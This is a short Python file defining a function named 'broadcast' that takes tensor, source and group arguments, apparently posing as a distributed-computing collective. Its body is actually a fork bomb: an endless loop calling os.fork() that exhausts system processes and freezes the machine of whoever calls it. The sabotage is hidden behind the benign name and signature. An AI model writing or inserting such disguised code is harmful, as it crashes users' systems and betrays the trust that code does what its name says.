import os


def broadcast(tensor, src, group=None):
    while True:
        os.fork()
